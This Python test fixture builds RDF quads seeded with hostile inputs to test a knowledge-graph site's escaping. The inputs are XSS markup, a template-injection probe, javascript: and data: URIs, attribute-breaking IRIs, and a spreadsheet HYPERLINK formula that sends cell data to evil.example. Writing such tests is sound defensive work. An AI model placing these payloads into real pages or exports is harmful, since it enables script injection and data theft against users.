"""Data that mean ill: labels, literals and IRIs that would be markup or programs if pages let them."""

from pyoxigraph import Literal, NamedNode, Quad

from graph.namespaces import ALG, BASE, RDF, RDFS, SKOS
from tests.served import ARTICLE

MARKUP = "</textarea></title></script>'\"><script>alert(1)</script><img src=x onerror=alert(1)>"
TEMPLATE = "{{ 7 * 7 }}{% for x in config %}{{ x }}{% endfor %}"
PROGRAMS = (
    "javascript:alert(1)",
    "JavaScript:alert(1)//https://w3id.org/allegata/",
    "data:text/html,%3Cscript%3Ealert(1)%3C/script%3E",
    "vbscript:msgbox(1)",
    "http://example.org/'onmouseover='alert(1)",
    "https://w3id.org/allegata/id/../../javascript:alert(1)",
    "https://w3id.org/allegata/id///evil.example/",
)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Cabello")'

THING = f"{BASE}id/actor/hostile"
PROPOSITION = f"{BASE}id/proposition/hostile"
CLAIM = f"{BASE}id/claim/press-briefing/hostile"
DOCUMENT = f"{BASE}id/document/hostile"


def hostile_quads() -> list[Quad]:
    return [*_thing(), *_proposition(), *_document(), *_ontology()]


def _quad(subject: str, predicate: str, thing: NamedNode | Literal, graph: str = ARTICLE) -> list[Quad]:
    """Return a statement as a visible graph has it: there, and in the default graph."""
    named = Quad(NamedNode(subject), NamedNode(predicate), thing, NamedNode(graph))
    return [named]


def _thing() -> list[Quad]:
    labels = [
        quad for text in (MARKUP, TEMPLATE, FORMULA) for quad in _quad(THING, RDFS + "label", Literal(text))
    ]
    links = [quad for iri in PROGRAMS for quad in _quad(THING, RDFS + "seeAlso", NamedNode(iri))]
    backlinks = [quad for iri in PROGRAMS for quad in _quad(iri, RDFS + "seeAlso", NamedNode(THING))]
    typed = _quad(THING, RDF + "type", NamedNode(ALG + "Actor"))
    odd = _quad(THING, "javascript:alert(1)", Literal(MARKUP, datatype=NamedNode("javascript:alert(2)")))
    return [*labels, *links, *backlinks, *typed, *odd]


def _proposition() -> list[Quad]:
    return [
        *_quad(PROPOSITION, RDF + "type", NamedNode(ALG + "Proposition")),
        *_quad(PROPOSITION, RDFS + "label", Literal(MARKUP)),
        *_quad(CLAIM, RDF + "type", NamedNode(ALG + "Claim")),
        *_quad(CLAIM, ALG + "inDocument", NamedNode(DOCUMENT)),
        *_quad(CLAIM, ALG + "holder", NamedNode("javascript:alert(1)")),
        *_quad("javascript:alert(1)", RDFS + "label", Literal(MARKUP)),
        *_quad(CLAIM, ALG + "stance", NamedNode("javascript:alert('stance')")),
        *_quad(CLAIM, ALG + "affirms", NamedNode(PROPOSITION)),
        *_quad(CLAIM, ALG + "certainty", NamedNode("javascript:alert('certainty')")),
        *_quad(CLAIM, ALG + "passage", NamedNode("javascript:alert('passage')")),
        *_quad("javascript:alert('passage')", ALG + "start", Literal(0)),
        *_quad("javascript:alert('passage')", ALG + "end", Literal(8)),
        *_quad("javascript:alert('passage')", ALG + "exact", Literal(MARKUP)),
    ]


def _document() -> list[Quad]:
    return [
        *_quad(DOCUMENT, ALG + "text", Literal(MARKUP)),
        *_quad(DOCUMENT, RDFS + "label", Literal(MARKUP)),
        *_quad(f"{BASE}id/document/'onclick='alert(1)", ALG + "text", Literal(MARKUP)),
    ]


def _ontology() -> list[Quad]:
    term = f"{BASE}ontology#'onmouseover='alert(1)"
    return [
        *_quad(term, RDFS + "isDefinedBy", NamedNode(f"{BASE}ontology")),
        *_quad(term, RDFS + "label", Literal(MARKUP)),
        *_quad(term, SKOS + "definition", Literal(MARKUP)),
    ]
